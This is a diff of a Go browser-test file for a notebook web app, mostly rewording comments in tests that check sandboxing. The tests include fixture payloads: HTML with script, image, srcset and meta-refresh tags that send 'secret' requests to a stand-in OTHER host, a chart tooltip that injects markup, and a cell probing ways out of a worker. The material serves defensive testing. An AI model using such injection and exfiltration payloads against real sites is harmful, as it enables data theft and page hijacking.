@@ -24,7 +24,7 @@ import (
 	"github.com/mpcvm/mpcvm/tools/browser"
 )
 
-// ear is what must not be heard: connections to another server, and requests to our own that carry a secret.
+// ear records forbidden traffic: connections to another server, and requests to our own with a secret.
 type ear struct {
 	mu    sync.Mutex
 	heard []string
@@ -36,7 +36,7 @@ func (e *ear) hear(what string) {
 	e.heard = append(e.heard, what)
 }
 
-// fresh is what was heard since the last call.
+// fresh returns the traffic since the last call.
 func (e *ear) fresh() []string {
 	e.mu.Lock()
 	defer e.mu.Unlock()
@@ -45,7 +45,7 @@ func (e *ear) fresh() []string {
 	return heard
 }
 
-// listening hears each connection, also one that sends nothing.
+// listening records each connection, even if nothing is sent.
 type listening struct {
 	net.Listener
 	ear *ear
@@ -59,8 +59,8 @@ func (l listening) Accept() (net.Conn, error) {
 	return c, err
 }
 
-// watched opens Chromium with two servers: the site, and another, whose address is other. Each hears what it
-// must not.
+// watched opens Chromium with two servers, the site and another with the address other. Both record forbidden
+// traffic.
 func watched(t *testing.T) (ctx context.Context, site, other string, e *ear) {
 	t.Helper()
 	oneOf(t, "chromium", "google-chrome", "chromium-browser")
@@ -87,7 +87,7 @@ func watched(t *testing.T) (ctx context.Context, site, other string, e *ear) {
 	return ctx, own.URL, foreign.URL, e
 }
 
-// value is that of an expression of the page, or of its promise.
+// value evaluates an expression in the page and awaits it if it is a promise.
 func value[T any](ctx context.Context, t *testing.T, expression string, arguments ...any) T {
 	t.Helper()
 	ctx, cancel := context.WithTimeout(ctx, 2*time.Minute)
@@ -114,19 +114,19 @@ func comes(ctx context.Context, t *testing.T, condition string) {
 		}
 	}
 	text, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText.slice(0, 2000)`))
-	t.Fatalf("%s does not come; the page: %s", condition, text)
+	t.Fatalf("%s does not become true; the page: %s", condition, text)
 }
 
 const pageReady = `document.documentElement.dataset.ready && window.mpcvmNotebook`
 
-// openNotebook opens a page of a live notebook and waits until it is there.
+// openNotebook opens the page of a live notebook and waits until it is ready.
 func openNotebook(ctx context.Context, t *testing.T, address string) {
 	t.Helper()
 	must(t, 0, chromedp.Do(ctx, chromedp.Navigate("about:blank"), chromedp.Navigate(address)))
 	comes(ctx, t, pageReady)
 }
 
-// picture keeps a picture of the page in LOOK_OUT.
+// picture saves a picture of the page in LOOK_OUT.
 func picture(ctx context.Context, t *testing.T, name string) {
 	t.Helper()
 	out := os.Getenv("LOOK_OUT")
@@ -143,7 +143,7 @@ func picture(ctx context.Context, t *testing.T, name string) {
 	must(t, 0, chromedp.Do(ctx, chromedp.EmulateViewport(1280, 900)))
 }
 
-// button presses the button of the page with a text.
+// button presses the button with the given text.
 func button(ctx context.Context, t *testing.T, text string) {
 	t.Helper()
 	is := `[...document.querySelectorAll("#main button")].find(b => b.textContent === %s && b.checkVisibility())`
@@ -152,14 +152,14 @@ func button(ctx context.Context, t *testing.T, text string) {
 	value[any](ctx, t, is+".click()", text)
 }
 
-// runJS runs a cell in the page's kernel, as the page does, and gives its status and what it wrote.
+// runJS runs a cell in the page's kernel, as the page does, and returns its status and its output.
 const runJS = `(async () => {
 	const out = { text: "", html: 0 };
 	const r = await mpcvmNotebook.kernel.run("a", %s, { text: (_, t) => out.text += t, html() { out.html++ }, update() {} });
 	return r.status + "\n" + r.errors.map(e => e.text).join("\n") + out.text;
 })()`
 
-// leaks is a cell that tries every way out of a worker. It writes a line for each that seems to be open.
+// leaks is a cell that tries every way out of a worker. It prints a line for each that seems open.
 const leaks = `import "syscall/js"
 
 // settled waits at most three seconds for a promise, or for one of the events of a target.
@@ -233,8 +233,8 @@ _, err := os.ReadFile("/mpcvm/data/penguins.csv")
 fmt.Println("done", err)
 `
 
-// TestProgramIsAlone runs a cell that tries to reach another server, our own, and what the browser keeps for
-// the site. In the playground the engine's worker is in the same kind of sandbox.
+// TestProgramIsAlone runs a cell that tries to reach another server, our own server, and the browser storage
+// of the site. The worker of the playground's engine runs in the same kind of sandbox.
 func TestProgramIsAlone(t *testing.T) {
 	ctx, site, other, e := watched(t)
 	openNotebook(ctx, t, site+"/notebooks/new.html")
@@ -243,9 +243,9 @@ func TestProgramIsAlone(t *testing.T) {
 	if got := value[string](ctx, t, runJS, source); got != "ok\ndone <nil>\n" {
 		t.Errorf("a cell can use:\n%s", got)
 	}
-	time.Sleep(500 * time.Millisecond) // for a connection that nobody waits for
+	time.Sleep(500 * time.Millisecond) // for late connections
 	if heard := e.fresh(); len(heard) > 0 {
-		t.Errorf("a cell was heard: %q", heard)
+		t.Errorf("a cell reached a server: %q", heard)
 	}
 	if got := value[string](ctx, t, `caches.keys().then(k => k.join())`); got != "mpcvm-2" {
 		t.Errorf("caches of the site: %q", got)
@@ -262,7 +262,7 @@ func TestProgramIsAlone(t *testing.T) {
 	}
 }
 
-// hostile is an output that wants to reach a server, to lead the reader away, or to cover the page.
+// hostile is an output that tries to reach a server, to lead the reader away, or to cover the page.
 const hostile = `<h3>an output</h3><p style="color: red">with <b>styles</b></p>
 <img src="OTHER/img?secret"><img src="OWN/icon.svg?secret"><img srcset="OTHER/srcset?secret"><picture><source srcset="OTHER/source?secret"><img></picture>
 <script src="OTHER/script?secret"></script><script>location.href = "OTHER/inline?secret"</script>
@@ -282,8 +282,8 @@ const hostile = `<h3>an output</h3><p style="color: red">with <b>styles</b></p>
 <template><meta http-equiv="refresh" content="0;url=OTHER/template?secret"></template>
 <div class="mpcvm-chart" id="chart" style="height: 200px"></div><script>(window.mpcvmWait=window.mpcvmWait||[]).push("CHART")</script>`
 
-// hostileChart is the code of a chart with an address in its title and HTML in its tooltip, which it wants to
-// put outside.
+// hostileChart is the code of a chart with an address in its title and HTML in its tooltip, which it tries to
+// place outside the chart.
 const hostileChart = `show("chart",{"title":{"text":"chart","link":"OTHER/title?secret","target":"self"},"tooltip":{"trigger":"axis","alwaysShowContent":true,"appendTo":"body","formatter":"<i class=tip>tip</i><meta http-equiv=refresh content='0;url=OTHER/tip?secret'><img src='OTHER/tip?secret'>"},"xAxis":{"type":"value"},"yAxis":{"type":"value"},"series":[{"type":"line","data":[[0,1],[1,2]]}]},null);`
 
 // withChart is the hostile output with its chart and the addresses of the servers.
@@ -298,7 +298,7 @@ func withChart(t *testing.T, site, other string) string {
 		base64.StdEncoding.EncodeToString(packed.Bytes())).Replace(hostile)
 }
 
-// TestOutputIsHarmless shows an output that wants to harm, from a program and from an opened file.
+// TestOutputIsHarmless shows the hostile output, from a program and from an opened file.
 func TestOutputIsHarmless(t *testing.T) {
 	ctx, site, other, e := watched(t)
 	out := withChart(t, site, other)
@@ -337,7 +337,7 @@ func TestOutputIsHarmless(t *testing.T) {
 		way.show()
 		comes(ctx, t, pageReady+` && document.querySelector(".outputs h3")`)
 		comes(ctx, t, `document.querySelector(".mpcvm-chart svg")`)
-		time.Sleep(time.Second) // for what comes by itself
+		time.Sleep(time.Second) // for delayed requests
 		value[any](ctx, t, `scrollTo(0, 0)`)
 		if got := value[string](ctx, t, `[[innerWidth / 2, 5], [30, 30], [innerWidth / 2, document.querySelector(".controls").getBoundingClientRect().y + 10]]
 			.map(([x, y]) => document.elementFromPoint(x, y)).filter(e => e?.closest(".outputs")).map(e => e.outerHTML.slice(0, 100)).join()`); got != "" {
@@ -360,7 +360,7 @@ func TestOutputIsHarmless(t *testing.T) {
 		value[any](ctx, t, `import("../keep.js").then(m => m.keepOffline()).then(() => null)`)
 		time.Sleep(time.Second)
 		if heard := e.fresh(); len(heard) > 0 {
-			t.Errorf("an output of %s was heard: %q", way.name, heard)
+			t.Errorf("an output of %s reached a server: %q", way.name, heard)
 		}
 		if at := value[string](ctx, t, `location.href`); !strings.HasPrefix(at, site+"/notebooks/new.html#") {
 			t.Errorf("an output of %s led to %s", way.name, at)
@@ -371,7 +371,7 @@ func TestOutputIsHarmless(t *testing.T) {
 		}
 		if got := value[string](ctx, t,
 			`getComputedStyle(document.querySelector(".outputs p")).color + document.querySelector(".outputs p b").textContent + !!document.querySelector(".tip").closest(".outputs")`); got != "rgb(255, 0, 0)stylestrue" {
-			t.Errorf("what is harmless in an output of %s: %q", way.name, got)
+			t.Errorf("the harmless content of an output of %s: %q", way.name, got)
 		}
 	}
 	// A browser without the sanitizer shows outputs in frames without scripts.
@@ -387,11 +387,11 @@ func TestOutputIsHarmless(t *testing.T) {
 		`void document.querySelector(".outputs iframe").contentDocument.querySelectorAll("a, button").forEach(e => e.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })))`)
 	time.Sleep(time.Second)
 	if heard, now := e.fresh(), value[string](ctx, t, "location.href"); len(heard) > 0 || now != at {
-		t.Errorf("an output in a frame was heard: %q; the page is at %s", heard, now)
+		t.Errorf("an output in a frame reached a server: %q; the page is at %s", heard, now)
 	}
 }
 
-// fragment is that of a link with a notebook, as site/notebook/share.js packs it.
+// fragment returns the fragment of a link to a notebook, as site/notebook/share.js packs it.
 func fragment(t *testing.T, source string) string {
 	t.Helper()
 	var b bytes.Buffer
@@ -402,8 +402,8 @@ func fragment(t *testing.T, source string) string {
 	return "#notebook=" + base64.RawURLEncoding.EncodeToString(b.Bytes())
 }
 
-// TestOpened opens links, whole and damaged, and files: a notebook of somebody else asks before it runs, a
-// damaged link says so, files stay, statements need no mark, and a panic names its cell by its number.
+// TestOpened opens intact and damaged links, and files. A notebook from elsewhere asks before it runs, a
+// damaged link is reported, files stay, statements need no mark, and a panic shows the number of its cell.
 func TestOpened(t *testing.T) {
 	ctx, site, _, _ := watched(t)
 	address := site + "/notebooks/new.html"
@@ -421,8 +421,8 @@ func TestOpened(t *testing.T) {
 	}
 	picture(ctx, t, "damaged-link")
 	openNotebook(ctx, t, address+"#own:000000000000")
-	if got := value[string](ctx, t, notice); !strings.Contains(got, "keeps no notebook") {
-		t.Errorf("a notebook that is not there: %q", got)
+	if got := value[string](ctx, t, notice); !strings.Contains(got, "has no notebook") {
+		t.Errorf("a missing notebook: %q", got)
 	}
 
 	openNotebook(ctx, t, address+whole)
@@ -433,7 +433,7 @@ func TestOpened(t *testing.T) {
 	comes(ctx, t, notice+`.includes("Run its code?")`)
 	if got := value[string](ctx, t,
 		`mpcvmNotebook.kernel.state + document.querySelectorAll(".cell[data-mark]:not([data-mark=''])").length`); got != "empty0" {
-		t.Errorf("a link ran without an answer: %s", got)
+		t.Errorf("a notebook from a link ran without permission: %s", got)
 	}
 	picture(ctx, t, "asks")
 	button(ctx, t, "Run it")
@@ -463,13 +463,13 @@ func TestOpened(t *testing.T) {
 		t.Errorf("files after a reload: %q", got)
 	}
 	if got := value[string](ctx, t, notice); strings.Contains(got, "comes from") {
-		t.Errorf("a notebook that was let run: %q", got)
+		t.Errorf("a notebook that was allowed to run: %q", got)
 	}
 	value[any](ctx, t, `void (document.querySelector(".files").open = true)`)
 	button(ctx, t, "Remove")
 	must(t, 0, chromedp.Do(ctx, chromedp.Reload()))
 	comes(ctx, t, pageReady)
 	if got := value[int](ctx, t, `mpcvmNotebook.kernel.files().length`); got != 0 {
-		t.Errorf("%d files after they are removed", got)
+		t.Errorf("%d files after their removal", got)
 	}
 }
